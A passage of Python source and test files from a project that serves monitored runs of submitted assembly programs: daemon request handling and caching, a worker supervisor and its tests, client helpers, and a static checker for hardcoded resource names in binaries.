                pass  # loop closed; shutdown already answered the client

        return on_event

    # -- one submission, protocol-independent ------------------------------
    async def _admit(
        self, raw: Dict[str, object]
    ) -> Tuple[Optional[_PendingJob], Optional[Dict[str, object]]]:
        """Admission-check one decoded submission.

        Returns ``(pending, None)`` on success — the caller streams from
        ``pending.queue`` — or ``(None, rejected_event)`` on rejection.

        Order matters (module docstring): the admission *precheck*
        (draining + per-tenant rate, hits charged too) runs before any
        per-submission compute; key digests and triage then run on the
        digest thread; only a cache miss claims a queue slot and tick
        budget.
        """
        try:
            submission = Submission.from_wire(raw)
        except ProtocolError as exc:
            self.metrics.counter(
                "serve_rejected_total",
                tenant=str(raw.get("tenant", "default")),
                reason=adm.REASON_INVALID,
            ).inc()
            return None, rejected_event(adm.REASON_INVALID, str(exc))
        reason = self.admission.precheck(submission.tenant)
        if reason is not None:
            return None, rejected_event(reason)
        cache_key, profile = await self._loop.run_in_executor(
            self._digester, self._inspect_submission, submission
        )
        if cache_key is not None:
            hit = self.cache.lookup(cache_key)
            if hit is not None:
                # Answered without a queue slot or tick spend (the rate
                # precheck above already metered this submission).
                job = _PendingJob(
                    job_id=self.supervisor.next_job_id(),
                    spec=None,
                    queue=asyncio.Queue(),
                    timeout=None,
                    admitted=False,
                    cached=True,
                )
                self._enqueue_hit(job, hit, profile)
                return job, None
        reason = self.admission.claim_slot(
            submission.tenant, submission.options.max_ticks
        )
        if reason is not None:
            return None, rejected_event(reason)
        job = _PendingJob(
            job_id=self.supervisor.next_job_id(),
            spec=submission.to_wire(),
            queue=asyncio.Queue(),
            timeout=(
                submission.options.wall_timeout
                if submission.options.wall_timeout is not None
                else None
            ),
            cache_key=cache_key,
        )
        if profile is not None:
            job.queue.put_nowait(triage_event(job.job_id, profile))
        self._pending.append(job)
        self._kick()
        return job, None

    def _inspect_submission(
        self, submission: Submission
    ) -> Tuple[Optional[str], Optional[Dict[str, object]]]:
        """Cache key + optional triage profile (digest thread; this
        assembles untrusted sources but never executes them)."""
        return self._cache_key(submission), (
            self._triage_profile(submission) if submission.triage else None
        )

    def _cache_key(self, submission: Submission) -> Optional[str]:
        """The submission's cache key, or None (bypass counted)."""
        if self.cache is None:
            return None
        reason = bypass_reason(submission.options)
        if reason is not None:
            self.cache.bypass(reason)
            return None
        try:
            return submission_key(submission, engine=self._engine)
        except Exception:
            # Unresolvable workload / unassemblable source: let the
            # worker produce the real protocol error.
            return None

    def _triage_profile(
        self, submission: Submission
    ) -> Optional[Dict[str, object]]:
        """Static triage of the submitted image (never executes)."""
        try:
            if submission.workload is not None:
                from repro.fleet.refs import WorkloadRef

                table, name = submission.workload
                image = WorkloadRef.from_registry(
                    table, name
                ).resolve().image(engine=self._engine)
            else:
                image = self._engine.image(
                    submission.path, submission.source
                )
        except Exception:
            return None
        return triage_image(image).to_dict()

    def _enqueue_hit(
        self,
        job: _PendingJob,
        hit: Dict[str, object],
        profile: Optional[Dict[str, object]],
    ) -> None:
        """Replay a cached result as the exact event stream a fresh run
        produces: optional triage, each warning in order, then the
        terminal report with ``cached: True`` and zeroed timing."""
        if profile is not None:
            job.queue.put_nowait(triage_event(job.job_id, profile))
        for seq, warning in enumerate(hit.get("warnings") or ()):
            job.queue.put_nowait({
                "kind": "warning",
                "job": job.job_id,
                "seq": seq,
                "warning": warning,
            })
        job.queue.put_nowait({
            "kind": "report",
            "report": hit["report"],
            "ok": hit.get("ok"),
            "cached": True,
            "worker": None,
            "job": job.job_id,
            "timing": {
                "queue_wait": 0.0, "exec": 0.0, "total": 0.0,
                "attempts": 0,
            },
        })

    async def _stream_events(self, job: _PendingJob, write) -> None:
        """Forward bridged events to ``write`` until a terminal one.

        The stream keeps draining even if the client hung up — the
        admission slot is only released once the job is truly answered,
        so a dead client cannot leak queue depth.
        """
        broken = False
        try:
            while True:
                event = await job.queue.get()
                kind = event.get("kind")
                if kind == "warning":
                    job.warnings.append(event.get("warning"))
                elif kind == "retry":
                    # The retried attempt's warnings are discarded with
                    # it; only the final attempt may populate the cache.
                    job.warnings.clear()
                elif kind == "report" and not event.get("cached"):
                    self._store_result(job, event)
                if not broken:
                    try:
                        await write(encode_event(event))
                    except (ConnectionError, asyncio.CancelledError,
                            OSError):
                        broken = True
                if kind in TERMINAL_KINDS:
                    return
        finally:
            if job.admitted:
                self.admission.release()

    def _store_result(
        self, job: _PendingJob, event: Dict[str, object]
    ) -> None:
        """Remember a fresh terminal report under the job's cache key."""
        if self.cache is None or job.cache_key is None:
            return
        report = event.get("report")
        if not isinstance(report, dict) or not cacheable_report_dict(
            report
        ):
            return
        self.cache.store(
            job.cache_key,
            {
                "report": report,
                "ok": event.get("ok"),
                "warnings": list(job.warnings),
            },
            meta={
                "program": report.get("program"),
                "verdict": report.get("verdict"),
                "warnings": len(report.get("warnings") or ()),
            },
        )

    # -- NDJSON over the unix socket ---------------------------------------
    async def _handle_ndjson(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        async def write(data: bytes) -> None:
            writer.write(data)
            await writer.drain()

        try:
            try:
                line = await reader.readline()
            except (ValueError, ConnectionError):
                return
            if not line.strip():
                return
            if len(line) > MAX_SUBMISSION_BYTES:
                await write(encode_event(
                    rejected_event(adm.REASON_INVALID, "submission too large")
                ))
                return
            try:
                raw = decode_line(line)
            except ProtocolError as exc:
                await write(encode_event(
                    rejected_event(adm.REASON_INVALID, str(exc))
                ))
                return
            job, rejection = await self._admit(raw)
            if rejection is not None:
                await write(encode_event(rejection))
                return
            await write(encode_event(
                accepted_event(
                    job.job_id, self.admission.depth, cached=job.cached
                )
            ))
            await self._stream_events(job, write)
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except Exception:
                pass

    # -- minimal HTTP/1.1 --------------------------------------------------
    async def _handle_http(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        try:
            try:
                request = await reader.readline()
            except (ValueError, ConnectionError):
                return
            parts = request.decode("latin-1").split()
            if len(parts) < 2:
                return
            method, target = parts[0].upper(), parts[1]
            headers: Dict[str, str] = {}
            while True:
                line = await reader.readline()
                if line in (b"\r\n", b"\n", b""):
                    break
                name, _, value = line.decode("latin-1").partition(":")
                headers[name.strip().lower()] = value.strip()

            if method == "GET" and target == "/healthz":
                await self._http_json(writer, 200, "OK", self._healthz())
            elif method == "GET" and target == "/stats":
                await self._http_json(writer, 200, "OK", self._stats())
            elif method == "GET" and target == "/metrics":
                await self._http_text(
                    writer, 200, "OK",
                    render_openmetrics(self.metrics.samples()),
                    content_type=(
                        "application/openmetrics-text; "
                        "version=1.0.0; charset=utf-8"
                    ),
                )
            elif method == "POST" and target == "/submit":
                await self._http_submit(reader, writer, headers)
            else:
                await self._http_json(
                    writer, 404, "Not Found",
                    {"error": f"no route for {method} {target}"},
                )
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except Exception:
                pass

    async def _http_submit(self, reader, writer, headers) -> None:
        length = int(headers.get("content-length", "0") or "0")
        if length <= 0 or length > MAX_SUBMISSION_BYTES:
            await self._http_json(
                writer, 400, "Bad Request",
                rejected_event(adm.REASON_INVALID, "bad content-length"),
            )
            return
        body = await reader.readexactly(length)
        try:
            raw = decode_line(body)
        except ProtocolError as exc:
            await self._http_json(
                writer, 400, "Bad Request",
                rejected_event(adm.REASON_INVALID, str(exc)),
            )
            return
        job, rejection = await self._admit(raw)
        if rejection is not None:
            status, phrase = _REJECT_STATUS.get(
                str(rejection["reason"]), (400, "Bad Request")
            )
            await self._http_json(writer, status, phrase, rejection)
            return

        writer.write(
            b"HTTP/1.1 200 OK\r\n"
            b"Content-Type: application/x-ndjson\r\n"
            b"Transfer-Encoding: chunked\r\n"
            b"Connection: close\r\n\r\n"
        )
        await writer.drain()

        async def write_chunk(data: bytes) -> None:
            writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            await writer.drain()

        await write_chunk(encode_event(
            accepted_event(
                job.job_id, self.admission.depth, cached=job.cached
            )
        ))
        await self._stream_events(job, write_chunk)
        try:
            writer.write(b"0\r\n\r\n")
            await writer.drain()
        except (ConnectionError, OSError):
            pass

    async def _http_json(
        self, writer, status: int, phrase: str, payload: Dict[str, object]
    ) -> None:
        body = (json.dumps(payload) + "\n").encode("utf-8")
        await self._http_body(
            writer, status, phrase, body, "application/json"
        )

    async def _http_text(
        self,
        writer,
        status: int,
        phrase: str,
        text: str,
        content_type: str = "text/plain; charset=utf-8",
    ) -> None:
        await self._http_body(
            writer, status, phrase, text.encode("utf-8"), content_type
        )

    async def _http_body(
        self, writer, status: int, phrase: str, body: bytes,
        content_type: str,
    ) -> None:
        try:
            writer.write(
                f"HTTP/1.1 {status} {phrase}\r\n"
                f"Content-Type: {content_type}\r\n"
                f"Content-Length: {len(body)}\r\n"
                f"Connection: close\r\n\r\n".encode("latin-1") + body
            )
            await writer.drain()
        except (ConnectionError, OSError):
            pass

    # -- introspection -----------------------------------------------------
    def _preregister_metrics(self) -> None:
        """Touch the serve/harrier/provenance metric families once so a
        ``/metrics`` scrape sees them (at zero) before any traffic."""
        self.metrics.counter("serve_admitted_total", tenant="default")
        self.metrics.counter(
            "serve_rejected_total",
            tenant="default", reason=adm.REASON_QUEUE_FULL,
        )
        self.metrics.counter("serve_jobs_completed_total", kind="report")
        self.metrics.counter("serve_worker_restarts_total")
        self.metrics.gauge("serve_queue_depth").set(0)
        self.metrics.counter("harrier_events_emitted_total")
        self.metrics.counter("harrier_warnings_total")
        self.metrics.counter("provenance_sources_total")
        self.metrics.counter("provenance_waypoints_total")
        self.metrics.counter("provenance_evidence_total")

    def _healthz(self) -> Dict[str, object]:
        live = self.supervisor.live_workers()
        return {
            "ok": live > 0 and not self._closed,
            "live_workers": live,
            "idle_workers": self.supervisor.idle_workers(),
            "queue_depth": self.admission.depth,
            "draining": self.admission.draining,
            "uptime_seconds": round(
                time.monotonic() - self._started_at, 3
            ),
            "worker_generations": self.supervisor.generations(),
            "provenance_enabled": self.provenance_enabled,
            "cache": (
                {
                    "enabled": True,
                    "hits": self.cache.stats.hits,
                    "misses": self.cache.stats.misses,
                    "hit_rate": round(self.cache.hit_rate, 4),
                }
                if self.cache is not None
                else {"enabled": False}
            ),
        }

    def _stats(self) -> Dict[str, object]:
        return {
            "health": self._healthz(),
            "supervisor": self.supervisor.stats(),
            "cache": (
                self.cache.snapshot() if self.cache is not None else None
            ),
            "metrics": self.metrics.samples(),
        }


async def run_daemon(daemon: ServeDaemon) -> None:
    """Run ``daemon`` until SIGTERM/SIGINT, then drain and exit."""
    import signal

    await daemon.start()
    await daemon.wait_ready()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        try:
            loop.add_signal_handler(sig, stop.set)
        except (NotImplementedError, ValueError):
            pass
    await stop.wait()
    await daemon.shutdown(drain=True)
