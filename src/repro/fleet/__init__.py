"""repro.fleet — sharded multi-process execution of workload sets.

The paper's evaluation is dozens of independent monitored runs (the §9
table sweep is 62 workloads; a chaos sweep is workloads × seeds).  Each
run is a fresh machine, so they parallelize perfectly — this package
shards them across worker processes while keeping the merged output
bit-identical to a serial sweep:

* :mod:`refs` — picklable :class:`WorkloadRef`/:class:`FleetTask` units
  and the canonical :data:`REGISTRIES` map;
* :mod:`worker` — the process entrypoint: one warm
  :class:`~repro.api.Session` per shard, watchdog/monitor-fault retries
  with backoff, streamed wire records;
* :mod:`engine` — :func:`run_fleet`: shard, spawn, collect, order by
  task index;
* :mod:`merge` / :mod:`report` — fleet-level telemetry merging, Chrome
  traces, and the :class:`FleetReport` roll-up.

Entry points: ``repro fleet`` on the command line, or::

    from repro.fleet import run_fleet, workload_refs

    fleet = run_fleet(workload_refs(), workers=4)
    assert not fleet.failures
"""

from repro.fleet.engine import SHARD_STRATEGIES, run_fleet, shard
from repro.fleet.merge import (
    fleet_chrome_trace,
    merged_telemetry,
    write_fleet_trace,
)
from repro.fleet.refs import (
    REGISTRIES,
    REGISTRY_ORDER,
    FleetTask,
    WorkloadRef,
    make_tasks,
    registry_workloads,
    workload_refs,
)
from repro.fleet.report import (
    CANCELLED_PREFIX,
    FLEET_SCHEMA_VERSION,
    FleetReport,
    FleetRunRecord,
)
from repro.fleet.worker import (
    retry_delay,
    retry_reason,
    run_task_with_retry,
    worker_main,
)

__all__ = [
    "run_fleet",
    "shard",
    "SHARD_STRATEGIES",
    "REGISTRIES",
    "REGISTRY_ORDER",
    "WorkloadRef",
    "FleetTask",
    "make_tasks",
    "registry_workloads",
    "workload_refs",
    "FleetReport",
    "FleetRunRecord",
    "FLEET_SCHEMA_VERSION",
    "CANCELLED_PREFIX",
    "retry_delay",
    "retry_reason",
    "run_task_with_retry",
    "worker_main",
    "merged_telemetry",
    "fleet_chrome_trace",
    "write_fleet_trace",
]
