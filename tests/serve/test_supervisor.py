"""Supervisor: dispatch, deadline kills, crash containment, self-healing.

Two layers: white-box unit tests drive the containment state machine
directly (no processes, fully deterministic), and a small set of
real-process tests prove the monitor actually kills, restarts, and
re-answers against live workers.
"""

import threading
import time

import pytest

from repro.core.options import RunOptions
from repro.serve.protocol import Submission
from repro.serve.supervisor import (
    FAIL_CRASH,
    FAIL_TIMEOUT,
    Supervisor,
    _Job,
    retry_delay,
)
from repro.telemetry.metrics import MetricsRegistry

BENIGN = Submission(source="main:\n    mov eax, 0\n    ret\n").to_wire()

#: ~1.2s of guest wall time at the measured ~1.5M ticks/s interpreter
#: rate — long enough to reliably observe/kill mid-run, short enough
#: for the retry attempt to finish fast.
_SLOW_SRC = """
main:
    mov ecx, 600000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    ret
"""
SLOW = Submission(source=_SLOW_SRC).to_wire()

#: A spin that cannot finish inside any test deadline (the machine is
#: "stuck" from the supervisor's point of view).
_WEDGED_SRC = _SLOW_SRC.replace("600000", "60000000")
WEDGED = Submission(
    source=_WEDGED_SRC, options=RunOptions(max_ticks=500_000_000)
).to_wire()


def wait_for(predicate, timeout=30.0, interval=0.02):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(interval)
    return False


class Collector:
    """Thread-safe event sink with a terminal latch."""

    def __init__(self):
        self.events = []
        self.done = threading.Event()
        self._lock = threading.Lock()

    def __call__(self, event):
        with self._lock:
            self.events.append(event)
        if event.get("kind") in ("report", "error", "rejected"):
            self.done.set()

    @property
    def kinds(self):
        with self._lock:
            return [e.get("kind") for e in self.events]

    @property
    def terminal(self):
        with self._lock:
            return self.events[-1]


# ---------------------------------------------------------------------------
# deterministic backoff


class TestRetryDelay:
    def test_same_key_and_attempt_is_identical(self):
        assert retry_delay(0.05, 2, "job-9") == retry_delay(
            0.05, 2, "job-9"
        )

    def test_exponential_base_with_bounded_jitter(self):
        for attempt in (1, 2, 3, 4):
            delay = retry_delay(0.1, attempt, "job-1")
            base = 0.1 * 2 ** (attempt - 1)
            assert base <= delay < 2 * base

    def test_different_jobs_jitter_apart(self):
        delays = {retry_delay(0.1, 1, f"job-{i}") for i in range(16)}
        assert len(delays) > 1


# ---------------------------------------------------------------------------
# containment state machine (white box, no processes)


class TestContainmentUnit:
    def _supervisor(self, **kwargs):
        # Never started: we drive the state machine by hand.
        return Supervisor(workers=1, **kwargs)

    def _job(self, sup, collector, max_retries=1):
        job = _Job(
            id=sup.next_job_id(), spec=BENIGN, on_event=collector,
            timeout=1.0, max_retries=max_retries, attempt=1,
            submitted_at=time.monotonic(),
            dispatched_at=time.monotonic(),
        )
        sup._jobs[job.id] = job
        return job

    def test_crash_with_retries_left_schedules_a_retry(self):
        sup = self._supervisor(metrics=MetricsRegistry())
        collector = Collector()
        worker = sup._workers[0]
        worker.job = self._job(sup, collector, max_retries=1)
        sup._contain_failure(worker, FAIL_CRASH, 9)
        assert collector.kinds == ["retry"]
        assert collector.events[0]["reason"] == FAIL_CRASH
        assert len(sup._retries) == 1
        assert sup._metrics.value(
            "serve_retries_total", reason=FAIL_CRASH
        ) == 1

    def test_retries_exhausted_synthesizes_a_terminal_error(self):
        sup = self._supervisor()
        collector = Collector()
        worker = sup._workers[0]
        job = self._job(sup, collector, max_retries=0)
        worker.job = job
        sup._contain_failure(worker, FAIL_CRASH, -11)
        assert collector.kinds == ["error"]
        terminal = collector.terminal
        assert terminal["code"] == FAIL_CRASH
        assert "exit code -11" in terminal["error"]
        assert "synthesized MONITOR_FAULT record" in terminal["error"]
        assert "timing" in terminal
        assert job.id not in sup._jobs

    def test_timeout_failure_names_the_deadline(self):
        sup = self._supervisor()
        collector = Collector()
        worker = sup._workers[0]
        worker.job = self._job(sup, collector, max_retries=0)
        sup._contain_failure(worker, FAIL_TIMEOUT, None)
        assert "deadline" in collector.terminal["error"]
        assert collector.terminal["code"] == FAIL_TIMEOUT

    def test_terminal_event_is_delivered_exactly_once(self):
        sup = self._supervisor()
        collector = Collector()
        job = self._job(sup, collector, max_retries=0)
        sup._finish(job, {"kind": "error", "code": "x", "error": "first"})
        sup._finish(job, {"kind": "error", "code": "x", "error": "again"})
        assert len(collector.events) == 1

    def test_stale_attempt_messages_are_dropped(self):
        # After a crash-retry, late messages from the killed attempt
        # must not answer (or double-answer) the job.
        sup = self._supervisor()
        collector = Collector()
        worker = sup._workers[0]
        job = self._job(sup, collector)
        job.attempt = 2                    # retry already dispatched
        worker.job = job
        stale = {
            "kind": "result", "worker": 0, "job": job.id,
            "attempt": 1, "report": {"verdict": "benign"}, "ok": None,
        }
        sup._handle_message(stale)
        assert collector.events == []      # dropped
        fresh = dict(stale, attempt=2)
        sup._handle_message(fresh)
        assert collector.kinds == ["report"]

    def test_restart_backoff_doubles_and_caps(self):
        sup = self._supervisor(
            restart_backoff=0.1, restart_backoff_max=0.3
        )
        worker = sup._workers[0]
        now = 1000.0
        delays = []
        for _ in range(4):
            sup._schedule_restart(worker, now)
            delays.append(worker.restart_at - now)
        assert delays == pytest.approx([0.1, 0.2, 0.3, 0.3])
        assert worker.restarts == 4


# ---------------------------------------------------------------------------
# live pool (real worker processes)


@pytest.fixture(scope="class")
def pool():
    sup = Supervisor(
        workers=1, job_timeout=30.0, max_retries=1,
        retry_backoff=0.01, restart_backoff=0.05,
        metrics=MetricsRegistry(),
    )
    sup.start()
    assert wait_for(lambda: sup.idle_workers() == 1)
    yield sup
    sup.stop()


class TestLivePool:
    def test_benign_submission_answers_with_a_report(self, pool):
        collector = Collector()
        job_id = pool.try_submit(BENIGN, collector)
        assert job_id is not None
        assert collector.done.wait(30.0)
        terminal = collector.terminal
        assert terminal["kind"] == "report"
        assert terminal["job"] == job_id
        assert terminal["report"]["verdict"] == "benign"
        timing = terminal["timing"]
        assert timing["attempts"] == 1
        assert timing["total"] >= timing["exec"] >= 0

    def test_no_idle_worker_means_no_dispatch(self, pool):
        slow = Collector()
        assert wait_for(lambda: pool.idle_workers() == 1)
        assert pool.try_submit(SLOW, slow) is not None
        assert wait_for(lambda: pool.idle_workers() == 0, timeout=10.0)
        assert pool.try_submit(BENIGN, Collector()) is None
        assert slow.done.wait(30.0)

    def test_busy_worker_killed_retries_then_succeeds(self, pool):
        collector = Collector()
        assert wait_for(lambda: pool.idle_workers() == 1)
        assert pool.try_submit(SLOW, collector) is not None
        assert wait_for(lambda: pool.busy_worker_ids() == [0], timeout=10.0)
        time.sleep(0.1)                    # let the guest get going
        assert pool.kill_worker(0)
        assert collector.done.wait(30.0)
        kinds = collector.kinds
        assert "retry" in kinds
        assert collector.events[kinds.index("retry")]["reason"] == FAIL_CRASH
        assert collector.terminal["kind"] == "report"
        assert collector.terminal["report"]["verdict"] == "benign"
        assert collector.terminal["timing"]["attempts"] == 2
        # the pool healed: same worker slot, restarted and idle again
        assert wait_for(lambda: pool.idle_workers() == 1)
        assert pool.stats()["workers"][0]["restarts"] >= 1

    def test_blown_deadline_kills_and_synthesizes(self, pool):
        collector = Collector()
        assert wait_for(lambda: pool.idle_workers() == 1)
        job_id = pool.try_submit(
            WEDGED, collector, timeout=0.4, max_retries=0
        )
        assert job_id is not None
        assert collector.done.wait(30.0)
        terminal = collector.terminal
        assert terminal["kind"] == "error"
        assert terminal["code"] == FAIL_TIMEOUT
        assert "deadline" in terminal["error"]
        # the worker that held it comes back
        assert wait_for(lambda: pool.idle_workers() == 1)

    def test_pool_still_serves_after_all_that_chaos(self, pool):
        collector = Collector()
        assert wait_for(lambda: pool.idle_workers() == 1)
        assert pool.try_submit(BENIGN, collector) is not None
        assert collector.done.wait(30.0)
        assert collector.terminal["kind"] == "report"
        assert pool.in_flight() == 0


class TestStop:
    def test_stop_answers_in_flight_with_shutting_down(self):
        sup = Supervisor(workers=1, job_timeout=30.0)
        sup.start()
        assert wait_for(lambda: sup.idle_workers() == 1)
        collector = Collector()
        assert sup.try_submit(WEDGED, collector) is not None
        assert wait_for(lambda: sup.busy_worker_ids() == [0], timeout=10.0)
        sup.stop()
        assert collector.done.wait(5.0)
        assert collector.terminal["kind"] == "error"
        assert collector.terminal["code"] == "shutting-down"
        assert all(
            w["state"] == "stopped"
            for w in sup.stats()["workers"].values()
        )

    def test_submit_after_stop_is_refused(self):
        sup = Supervisor(workers=1)
        sup.start()
        assert wait_for(lambda: sup.idle_workers() == 1)
        sup.stop()
        assert sup.try_submit(BENIGN, Collector()) is None
