"""Clients for the serve daemon: blocking (CLI/tests) and async (bench).

The native protocol is one NDJSON submission line in, a stream of NDJSON
event lines out, over the daemon's unix socket.  :class:`ServeClient`
wraps that for synchronous callers; :func:`submit_async` is the same
exchange on asyncio streams so the load bench can hold a thousand
submissions open from one event loop.  The HTTP helpers use nothing but
the standard library (``http.client`` handles the chunked decoding of
the streamed response).
"""

from __future__ import annotations

import http.client
import json
import socket
from typing import Callable, Dict, List, Optional

from repro.serve.protocol import (
    Submission,
    TERMINAL_KINDS,
    decode_line,
    encode_event,
)

EventCallback = Callable[[Dict[str, object]], None]


class ServeError(RuntimeError):
    """The daemon hung up without a terminal event."""


class ServeClient:
    """Blocking NDJSON client over the daemon's unix socket."""

    def __init__(self, unix_path: str, timeout: float = 120.0) -> None:
        self.unix_path = unix_path
        self.timeout = timeout

    def submit(
        self,
        submission: Submission,
        on_event: Optional[EventCallback] = None,
    ) -> Dict[str, object]:
        """Send one submission; return its terminal event.

        ``on_event`` sees every event (``accepted``, streamed
        ``warning``/``retry``, the terminal) as it arrives.
        """
        events = self.submit_collect(submission, on_event)
        return events[-1]

    def submit_collect(
        self,
        submission: Submission,
        on_event: Optional[EventCallback] = None,
    ) -> List[Dict[str, object]]:
        """Like :meth:`submit` but return the whole event list."""
        events: List[Dict[str, object]] = []
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(self.timeout)
            sock.connect(self.unix_path)
            sock.sendall(encode_event(submission.to_wire()))
            with sock.makefile("rb") as stream:
                for line in stream:
                    event = decode_line(line)
                    events.append(event)
                    if on_event is not None:
                        on_event(event)
                    if event.get("kind") in TERMINAL_KINDS:
                        return events
        raise ServeError(
            "daemon closed the stream without a terminal event "
            f"(got {[e.get('kind') for e in events]})"
        )


async def submit_async(
    unix_path: str,
    submission: Submission,
    on_event: Optional[EventCallback] = None,
) -> List[Dict[str, object]]:
    """One submission over asyncio streams; returns the full event list."""
    import asyncio

    reader, writer = await asyncio.open_unix_connection(unix_path)
    events: List[Dict[str, object]] = []
    try:
        writer.write(encode_event(submission.to_wire()))
        await writer.drain()
        while True:
            line = await reader.readline()
            if not line:
                raise ServeError(
                    "daemon closed the stream without a terminal event "
                    f"(got {[e.get('kind') for e in events]})"
                )
            event = decode_line(line)
            events.append(event)
            if on_event is not None:
                on_event(event)
            if event.get("kind") in TERMINAL_KINDS:
                return events
    finally:
        try:
            writer.close()
            await writer.wait_closed()
        except Exception:
            pass


# ---------------------------------------------------------------------------
# HTTP helpers (stdlib only)


def http_get(host: str, port: int, path: str, timeout: float = 10.0) -> Dict:
    """GET a JSON endpoint (``/healthz``, ``/stats``)."""
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        conn.request("GET", path)
        resp = conn.getresponse()
        return {
            "status": resp.status,
            "body": json.loads(resp.read().decode("utf-8")),
        }
    finally:
        conn.close()


def http_get_text(
    host: str, port: int, path: str, timeout: float = 10.0
) -> Dict:
    """GET a text endpoint (``/metrics``) without JSON-decoding it."""
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        conn.request("GET", path)
        resp = conn.getresponse()
        return {
            "status": resp.status,
            "content_type": resp.getheader("Content-Type", ""),
            "text": resp.read().decode("utf-8"),
        }
    finally:
        conn.close()


def http_submit(
    host: str,
    port: int,
    submission: Submission,
    on_event: Optional[EventCallback] = None,
    timeout: float = 120.0,
) -> List[Dict[str, object]]:
    """POST /submit and stream the chunked NDJSON response.

    Returns the full event list; a rejection (HTTP 429/503/400) comes
    back as a one-element list holding the ``rejected`` event, with the
    status attached under ``http_status``.
    """
    body = encode_event(submission.to_wire())
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    events: List[Dict[str, object]] = []
    try:
        conn.request(
            "POST", "/submit", body=body,
            headers={"Content-Type": "application/x-ndjson"},
        )
        resp = conn.getresponse()
        if resp.status != 200:
            event = decode_line(resp.read())
            event["http_status"] = resp.status
            events.append(event)
            if on_event is not None:
                on_event(event)
            return events
        while True:
            line = resp.readline()
            if not line:
                break
            event = decode_line(line)
            events.append(event)
            if on_event is not None:
                on_event(event)
            if event.get("kind") in TERMINAL_KINDS:
                break
        if not events or events[-1].get("kind") not in TERMINAL_KINDS:
            raise ServeError(
                "HTTP stream ended without a terminal event "
                f"(got {[e.get('kind') for e in events]})"
            )
        return events
    finally:
        conn.close()
