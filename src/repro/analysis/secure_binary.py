"""Secure Binary static checker (paper Appendix B).

A *Secure Binary* contains "no hard-coded data ... used towards a
resource name/type or resource content": no file or socket name may be
hardcoded, and data written to such resources must never be hardcoded.

The checker statically scans an assembled image: it extracts the string
constants in the data section, then walks the text looking for
data-section references that reach resource-using routines (open,
execve, connect, write helpers...) within the same basic block.  A clean
report makes the binary *safer*, not safe — exactly the appendix's
framing.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.isa.image import Image
from repro.isa.instructions import Imm, Instruction, Opcode

#: Routines whose use of a hardcoded operand violates the Secure Binary
#: rules: (symbol, what the operand names).
RESOURCE_ROUTINES: Dict[str, str] = {
    "open": "file name",
    "creat": "file name",
    "unlink": "file name",
    "chmod": "file name",
    "mkfifo": "file name",
    "execve": "process name",
    "gethostbyname": "host name",
    "connect_addr": "socket address",
    "bind_addr": "socket address",
    "write": "resource content",
    "fputs": "resource content",
    "system": "command line",
    "strcpy": "resource content",
}

#: How far (instructions) a data reference may sit before the call that
#: consumes it and still be attributed to that call.
_REACH = 12


@dataclass(frozen=True)
class Violation:
    """One hardcoded-resource finding."""

    symbol: str          # the data label referenced
    string: Optional[str]  # the string constant, when decodable
    routine: str         # which resource routine consumes it
    usage: str           # what the routine uses the operand for
    text_offset: int     # where the reference occurs

    def __str__(self) -> str:
        value = f' = "{self.string}"' if self.string else ""
        return (
            f"offset {self.text_offset}: {self.symbol}{value} "
            f"hardcoded {self.usage} reaches {self.routine}()"
        )


@dataclass
class SecureBinaryReport:
    image_name: str
    violations: List[Violation] = field(default_factory=list)
    strings: Dict[str, str] = field(default_factory=dict)

    @property
    def is_secure(self) -> bool:
        return not self.violations

    def render(self) -> str:
        status = "SECURE" if self.is_secure else "NOT SECURE"
        lines = [f"{self.image_name}: {status} "
                 f"({len(self.violations)} violation(s))"]
        lines.extend(f"  - {v}" for v in self.violations)
        return "\n".join(lines)


def extract_strings(image: Image) -> Dict[str, str]:
    """Data-section string constants, keyed by their defining symbol."""
    out: Dict[str, str] = {}
    for symbol, offset in image.symbols.items():
        if offset < image.text_size:
            continue
        chars: List[str] = []
        cursor = offset
        while cursor in image.data:
            value = image.data[cursor]
            if value == 0:
                break
            if not (32 <= value < 127):
                chars = []
                break
            chars.append(chr(value))
            cursor += 1
        if chars and image.data.get(cursor) == 0:
            out[symbol] = "".join(chars)
    return out


def _call_targets(image: Image) -> Dict[int, str]:
    """text index -> called symbol name (for relocated CALLs)."""
    out: Dict[int, str] = {}
    for reloc in image.text_relocations:
        instr = image.text[reloc.index]
        if instr.opcode is Opcode.CALL and reloc.slot == "a":
            out[reloc.index] = reloc.symbol
    return out


def _data_references(image: Image) -> List[Tuple[int, str]]:
    """(text index, symbol) pairs where code takes a data-section address."""
    out: List[Tuple[int, str]] = []
    for reloc in image.text_relocations:
        offset = image.symbols.get(reloc.symbol)
        if offset is None or offset < image.text_size:
            continue  # extern or code symbol
        instr = image.text[reloc.index]
        if instr.opcode is Opcode.CALL:
            continue
        if offset not in image.data:
            # An uninitialized buffer (.space): its *address* is embedded
            # but its content is not hardcoded data.
            continue
        out.append((reloc.index, reloc.symbol))
    return out


def check_secure_binary(image: Image) -> SecureBinaryReport:
    """Apply the Appendix B rules to one image."""
    strings = extract_strings(image)
    calls = _call_targets(image)
    report = SecureBinaryReport(image_name=image.name, strings=strings)

    for ref_index, symbol in _data_references(image):
        # Find the first resource-routine call downstream of the reference
        # (stopping at control transfers out of the straight-line region).
        for index in range(ref_index, min(ref_index + _REACH,
                                          image.text_size)):
            instr: Instruction = image.text[index]
            routine = calls.get(index)
            if routine is not None and routine in RESOURCE_ROUTINES:
                report.violations.append(
                    Violation(
                        symbol=symbol,
                        string=strings.get(symbol),
                        routine=routine,
                        usage=RESOURCE_ROUTINES[routine],
                        text_offset=ref_index,
                    )
                )
                break
            if index > ref_index and instr.opcode in (
                Opcode.RET, Opcode.HLT, Opcode.JMP
            ):
                break
    return report
