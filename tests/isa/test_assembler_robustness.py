"""Assembler robustness: arbitrary input either assembles or raises
